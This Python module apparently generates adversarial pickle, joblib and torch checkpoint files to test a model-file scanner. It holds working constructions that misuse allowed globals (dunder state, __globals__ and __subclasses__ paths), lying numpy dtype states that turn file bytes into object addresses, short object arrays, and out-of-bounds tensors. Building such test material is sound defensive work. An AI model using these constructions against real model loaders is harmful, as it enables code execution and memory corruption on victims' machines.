"""Attacks that use listed names only: what a profile or the inert list grants, used in a way that was not granted.

The names come from the scanner's own data, so a grant that is added tomorrow is attacked tomorrow. Each
way is one that no grant can cover: state that sets special names, a class that is changed itself, a result
that is called, attribute paths below a granted name, a number type whose description lies about memory.
"""

import json
import struct
from functools import cache
from importlib import resources

from attack_containers import joblib_file, name
from attack_opcodes import text, value, word

from weighbridge.scanner import names
from world_checkpoints import Call, G, Raw, emit, pickled

SPECIAL = (
    "__setstate__",
    "__class__",
    "__dict__",
    "__reduce__",
    "__getattr__",
    "__del__",
    "__eq__",
    "__call__",
    "__init__",
    "__array_interface__",
    "__wrapped__",
)


@cache
def granted():
    """Return (module, name, its row) of each granted name, sorted; classes that can be made and given a state."""
    folder = resources.files("weighbridge.scanner") / "profiles"
    found = []
    for part in sorted(folder.iterdir(), key=lambda item: item.name):
        document = json.loads(part.read_bytes()) if part.name.endswith(".json") else {}
        if document.get("schema") != "weighbridge.profile/1":
            continue
        for module, rows in document["grants"].items():
            for own, kind in rows.items():
                found.append((module, own, document["kinds"][kind.partition(" ")[0]]))
    for full, row in names.inert().items():
        found.append((*full.rsplit(".", 1), row))
    return tuple(sorted(found, key=lambda row: row[:2]))


def misuse(rng):
    """Use a granted name in a way that no grant covers."""
    module, own, row = rng.choice(granted())
    push = f"c{module}\n{own}\n".encode()
    made = push + b")\x81"
    key, one = text(rng, rng.choice(SPECIAL)), value(rng)
    other = "c{}\n{}\n".format(*rng.choice(granted())[:2]).encode()
    forms = {
        "special name in the state": made + b"}" + key + other + b"sb",
        "special names in the state": made + b"}(" + text(rng, word(rng)) + one + key + other + b"ub",
        "special name in a slot": made + b"N}" + key + other + b"s\x86b",
        "special name, dict by DICT": made + b"(" + key + other + b"db",
        "special name from the memo": key + b"q\xf0" + b"0" + made + b"}" + b"h\xf0" + other + b"sb",
        "state from the memo": b"}q\xf0" + key + other + b"s0" + made + b"h\xf0b",
        "state changed through the memo": b"}q\xf0" + made + b"h\xf0" + key + other + b"s" + b"b",
        "class changed": push + b"}" + text(rng, word(rng)) + one + b"sb",
        "class changed by a slot": push + b"N}" + text(rng, word(rng)) + other + b"s\x86b",
        "result called": made + b")R",
        "result called with OBJ": b"(" + made + one + b"o",
        "path below the name": b"\x80\x04" + text(rng, module, "ab") + text(rng, f"{own}.{rng.choice(('__init__.__globals__', '__class__', '__subclasses__', '__reduce_ex__', 'mro', '__init__'))}", "ab") + b"\x93)R",
        "items into the class": push + one + b"a",
        "key by a foreign name": b"}" + b"c" + f"{module}\n{own}_{word(rng)}\n".encode() + b")\x81" + one + b"s",
        "neighbour": f"c{module}\n{rng.choice(('os', 'sys', 'np', 'warnings', 'pickle', 'importlib', 'subprocess', 'types', 'functools'))}\nN}}".encode() + text(rng, word(rng)) + other + b"s\x86b",
        "NEWOBJ_EX": push + b")}" + text(rng, word(rng)) + one + b"s\x92",
    }  # fmt: skip
    if "calls" not in row:
        forms["called with arguments"] = push + b"(" + text(rng, word(rng)) + one + b"tR"
        forms["INST"] = b"(" + text(rng, word(rng)) + one + f"i{module}\n{own}\n".encode()
        forms["OBJ"] = b"(" + push + text(rng, word(rng)) + b"o"
    form = rng.choice(sorted(forms))
    data = b"\x80\x04" + forms[form] + b"."
    return {name(rng, "model.pkl", "model.joblib"): data}, [
        form,
        f"{module}.{own}",
        "a listed name used in a way that runs what nobody vetted",
    ]


def _dtype(code, *state):
    return Call(G("numpy", "dtype"), (code, False, True), state)


def lying_dtype(rng):
    """Return a description of numbers that has numpy take bytes for addresses or reach outside of an array, and how.

    `numpy.dtype.__setstate__` believes its state: flags that say "no objects" for objects turn the raw
    bytes of an array into addresses of Python objects; offsets of fields are not compared with the size.
    """
    plain = _dtype("f8", 3, "<", None, None, None, -1, -1, 0)
    objects = _dtype(rng.choice(("O8", "O", "|O8")), 3, "|", None, None, None, -1, -1, 63)
    flags = rng.choice((0, 0, 16, 8, 4, 2, 1, 60, 62))
    bare = _dtype("O8", 3, "|", None, None, None, -1, -1, flags)
    far = rng.choice((800, 1 << 20, -8, -800, 8, 1, 1 << 40))
    forms = {
        "objects, flags say none": bare,
        "field of objects, flags say none": _dtype("V8", 3, "|", None, ("a",), {"a": (objects, 0)}, 8, 1, rng.choice((0, 16, 128))),
        "field of lying objects": _dtype("V8", 3, "|", None, ("a",), {"a": (bare, 0)}, 8, 1, 0),
        "field outside": _dtype("V8", 3, "|", None, ("a",), {"a": (plain, far)}, 8, 1, rng.choice((0, 16))),
        "field too large": _dtype("V4", 3, "|", None, ("a",), {"a": (plain, 0)}, 4, 1, 16),
        "sub-array too large": _dtype("V8", 3, "|", (plain, (100,)), None, None, 8, 1, 0),
        "sub-array of objects": _dtype("V8", 3, "|", (objects, (1,)), None, None, 8, 1, 0),
        "size zero": _dtype("V8", 3, "|", None, ("a",), {"a": (plain, 0)}, rng.choice((0, 1, -1)), 1, 16),
        "nested": _dtype("V8", 3, "|", None, ("b",), {"b": (_dtype("V8", 3, "|", None, ("a",), {"a": (objects, 0)}, 8, 1, 0), 0)}, 8, 1, 0),
        "set twice": Raw(emit(objects) + emit((3, "|", None, None, None, -1, -1, flags)) + b"b"),
        "set again from the memo": Raw(emit(objects) + b"q\xf0" + emit((3, "|", None, None, None, -1, -1, flags)) + b"b"),
    }  # fmt: skip
    form = rng.choice(sorted(forms))
    return forms[form], form


def addresses(rng):
    """An array, a number or a joblib array whose bytes become addresses."""
    dtype, how = lying_dtype(rng)
    raw = b"AAAAAAAA"
    core = rng.choice(("numpy.core", "numpy._core"))
    kind = rng.choice(("array", "scalar", "buffer", "joblib"))
    if kind == "joblib":
        return {name(rng, "model.joblib"): joblib_file(dtype, (1,), raw)}, [
            kind,
            how,
            "bytes of the file become addresses in memory",
        ]
    made = {
        "array": Call(
            G(f"{core}.multiarray", "_reconstruct"),
            (G("numpy", "ndarray"), (0,), b"b"),
            (1, (1,), dtype, False, raw),
        ),
        "scalar": Call(G(f"{core}.multiarray", "scalar"), (dtype, raw)),
        "buffer": Call(G(f"{core}.numeric", "_frombuffer"), (raw, dtype, (1,), "C")),
    }[kind]
    root = rng.choice((made, {word(rng): made}, [made, made]))
    return {name(rng, "model.pkl", "scaler.joblib"): pickled(root)}, [
        kind,
        how,
        "bytes of the file become addresses in memory",
    ]


def short_lists(rng):
    """An array of objects with fewer objects than its shape says: numpy takes the rest from behind the list."""
    objects = _dtype(rng.choice(("O8", "O4")), 3, "|", None, None, None, -1, -1, 63)
    given = [rng.choice((None, 1, "x", [1, [2, [3]]])) for _ in range(rng.randrange(4))]
    many = len(given) + rng.choice((1, 3, 1000, 10**7))
    shape = rng.choice(((many,), (many, 1), (1, many), (2, many)))
    core = rng.choice(("numpy.core.multiarray", "numpy._core.multiarray"))
    state = (1, shape, objects, rng.choice((True, False)), given)
    made = Call(
        G(core, "_reconstruct"),
        (G("numpy", "ndarray"), (0,), b"b"),
        state if rng.random() < 0.8 else state[1:],
    )
    if rng.random() < 0.3:
        # The shape waits in the memo, or the list is filled again elsewhere and counted twice.
        twin = emit(given) + b"q\xf0" + b"0"
        made = Raw(
            twin
            + emit(
                Call(
                    G(core, "_reconstruct"),
                    (G("numpy", "ndarray"), (0,), b"b"),
                    (1, shape, objects, False, Raw(b"h\xf0")),
                )
            )
        )
    return {
        name(rng, "model.pkl", "scaler.joblib"): pickled(rng.choice((made, [made], {word(rng): made})))
    }, [f"{len(given)} objects for {shape}", "", "what lies behind the list is taken for objects"]


def joblib_objects(rng):
    """A joblib array of objects: a pickle of its own follows the description, where raw bytes would lie."""
    from attack_streams import stream

    inner, words = stream(rng, whole=True)
    dtypes = {
        "objects": _dtype("O8", 3, "|", None, None, None, -1, -1, 63),
        "a field of objects": _dtype("V16", 3, "|", None, ("a", "b"), {"a": (_dtype("f8", 3, "<", None, None, None, -1, -1, 0), 0), "b": (_dtype("O8", 3, "|", None, None, None, -1, -1, 63), 8)}, 16, 1, 27),
        "objects from the memo": Raw(emit(_dtype("O8", 3, "|", None, None, None, -1, -1, 63)) + b"q\xf0" + b"0h\xf0"),
    }  # fmt: skip
    kind = rng.choice(sorted(dtypes))
    return {name(rng, "model.joblib"): joblib_file(dtypes[kind], (1,), inner, align=None)}, [kind, *words]


_WIDTHS = {"f2": 2, "f4": 4, "f8": 8, "i1": 1, "u1": 1, "b1": 1, "i8": 8, "c8": 8, "c16": 16}
_SIZED = {"U2": ("<", 8, 4, 8), "S5": ("|", 5, 1, 0), "V3": ("|", 3, 1, 0), "U1": (">", 4, 4, 8)}


def joblib_lengths(rng):
    """A payload right behind the raw bytes of an honest joblib array: who takes the array for longer skips it."""
    act, words = _act(rng)
    if rng.random() < 0.6:
        code = rng.choice(sorted(_WIDTHS))
        dtype, width = _dtype(code, 3, rng.choice("<>"), None, None, None, -1, -1, 0), _WIDTHS[code]
    else:
        code = rng.choice(sorted(_SIZED))
        order, width, align, flags = _SIZED[code]
        dtype = _dtype(code, 3, order, None, None, None, width, align, flags)
    shape = rng.choice(((1,), (3,), (2, 2), (), (0,), (5, 0), (1, 1, 1)))
    count = 1
    for side in shape:
        count *= side
    body = joblib_file(
        dtype,
        shape,
        rng.randbytes(count * width),
        align=rng.choice((None, 16, 8)),
        then=emit("k") + act + b"s",
    )
    return {name(rng, "model.joblib"): body}, [f"{code} {shape}", *words]


def _act(rng):
    from attack_opcodes import payload

    act, form, gadget = payload(rng)
    return act, [form, f"{gadget.module}.{gadget.name}", gadget.why]


def numpy_pickled_raw(rng):
    """Objects inside an array that says it holds them: each is a value of the outer pickle."""
    act, words = _act(rng)
    objects = _dtype("O8", 3, "|", None, None, None, -1, -1, 63)
    made = Call(
        G("numpy._core.multiarray", "_reconstruct"),
        (G("numpy", "ndarray"), (0,), b"b"),
        (1, (1,), objects, False, [Raw(act)]),
    )
    return {name(rng, "model.pkl"): b"\x80\x04" + emit(made) + b"."}, [*words, "in an array of objects"]


def sizes(rng):
    """A torch checkpoint in which a tensor of honest names reaches outside of its storage."""
    numel = rng.randint(1, 64)
    from world_checkpoints import Checkpoint, ordered, storage, tensor

    how = rng.choice(("shape", "offset", "stride", "negative offset", "negative shape", "overflow"))
    shape, stride, offset = (numel,), (1,), 0
    if how == "shape":
        shape = (numel * 1000,)
    elif how == "offset":
        offset = numel * 10
    elif how == "stride":
        stride = (1 << 20,)
        shape = (numel + 1,)
    elif how == "negative offset":
        offset = -numel
    elif how == "negative shape":
        shape = (-numel,)
    else:
        shape, stride = (1 << 33, 1 << 33), (1 << 32, 1 << 32)
    root = ordered([("w", tensor(storage("0", numel=numel), shape, stride, offset))])
    check = Checkpoint(root, {"0": struct.pack(f"<{numel}f", *range(numel))})
    return {name(rng, "model.pt"): rng.choice((check.zip, check.legacy))()}, [
        "tensor outside of its storage",
        how,
        "a loader reads or writes past a buffer",
    ]
